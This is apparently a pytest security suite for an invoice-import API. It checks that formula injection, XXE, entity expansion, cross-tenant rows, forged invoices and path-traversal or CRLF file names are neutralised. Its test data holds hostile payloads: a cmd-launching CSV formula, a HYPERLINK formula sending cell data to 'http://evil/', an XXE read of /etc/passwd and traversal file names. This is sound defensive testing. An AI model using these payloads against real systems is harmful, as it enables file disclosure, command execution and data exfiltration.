"""API10:2023, what the suite takes from others: a file or a partner's statement is believed as far as it is proved."""

from __future__ import annotations

import time
from typing import Any
from uuid import uuid4

import pytest
from town import Answer, Town

HEADER = "企业代号,发票号码,开票日期,购方单位代号,金额,税额,价税合计,发票状态\n"
FORMULAS = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", '=HYPERLINK("http://evil/"&A1)')
XXE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>"""
LAUGHS = (
    b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>"""
)


def _send(town: Town, who: str, kind: str, name: str, content: bytes) -> Answer:
    headers = {"Content-Type": "application/octet-stream", "Idempotency-Key": str(uuid4())}
    return town.send(who, "POST", f"/v1/imports?kind={kind}&filename={name}", content, headers)


def _done(town: Town, who: str, sent: Answer) -> Any:
    assert sent.status == 202, sent.data
    until = time.monotonic() + 60
    while (state := town.ask(who, "GET", f"/v1/imports/{sent.json['id']}").json)["state"] in {"queued", "running"}:
        assert time.monotonic() < until
        time.sleep(0.1)
    return state


def test_a_report_of_rejected_rows_runs_in_no_spreadsheet(town: Town) -> None:
    """D12: a cell that begins a formula is quoted; the report is saved, not shown."""
    rows = "".join(f'"{each.replace(chr(34), chr(34) * 2)}",1,2019/1/4,A1,1,1,2,有效发票\n' for each in FORMULAS)
    state = _done(town, "data source", _send(town, "data source", "invoices.sale", "f.csv", (HEADER + rows).encode()))
    report = town.ask("data source", "GET", f"/v1/imports/{state['id']}/rejects")
    assert report.status == 200, report.data
    cells = [cell.strip().strip('"') for line in report.data.decode().splitlines()[1:] for cell in line.split(",")]
    assert cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t")]
    assert report.headers["Content-Disposition"].startswith("attachment")
    assert report.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("content", [XXE, LAUGHS])
def test_an_invoice_that_names_other_files_reads_none(town: Town, content: bytes) -> None:
    """XXE and entities that grow: refused or failed, and nothing of this machine in the answer."""
    sent = _send(town, "owner", "invoices", "x.xml", content)
    told = sent.data if sent.status != 202 else str(_done(town, "owner", sent)).encode()
    assert b"root:" not in told
    assert sent.status in {413, 422} or b"'done'" not in told or b"'accepted': 0" in told


def test_a_firm_sends_nothing_in_another_s_name(town: Town) -> None:
    """Rows of other firms are rejected with their line; of the other's file nothing changes."""
    before = town.ask("another enterprise", "GET", f"/v1/enterprises/{town.other}/features").json["values"]
    row = f"{town.other},X1,2019/1/4,A1,9,1,10,有效发票\n"
    sent = _send(town, "owner", "invoices.sale", "f.csv", (HEADER + row).encode())
    assert sent.status in {403, 422} or _done(town, "owner", sent)["accepted"] == 0
    after = town.ask("another enterprise", "GET", f"/v1/enterprises/{town.other}/features").json["values"]
    assert after == before


def test_an_invented_invoice_does_not_contradict_whom_it_names(town: Town) -> None:
    """D8: what one firm alone states of another is unconfirmed, and tells the inventor nothing of the other."""
    path = f"/v1/enterprises/{town.other}/cross-checks"
    before = town.ask("another enterprise", "GET", path).data
    sale = {
        "direction": "sale",
        "number": "INVENTED1",
        "counterparty": town.other,
        "date": "2019-06-03",
        "net_fen": 100_000_000,
        "tax_fen": 0,
        "total_fen": 100_000_000,
        "status": "valid",
        "synthetic": True,
    }
    sent = town.ask("disputant", "POST", f"/v1/enterprises/{town.disputant}/invoices", {"records": [sale]})
    assert sent.status == 202, sent.data
    assert town.ask("another enterprise", "GET", path).data == before


def test_a_file_s_name_leads_nowhere(town: Town) -> None:
    """Names with folders, NUL and line ends: refused, or kept as words."""
    for name in ("../../../etc/passwd", "a%00.csv", "a%0d%0aX-Evil:%201", "....//x", "%2e%2e%2fx.csv"):
        headers = {"Content-Type": "application/octet-stream", "Idempotency-Key": str(uuid4()), **town.headers["owner"]}
        sent = town.http.request(
            "POST", f"{town.url}/v1/imports?kind=invoices.sale&filename={name}", body=b"x\n1\n", headers=headers
        )
        assert sent.status < 500
        assert "X-Evil" not in sent.headers
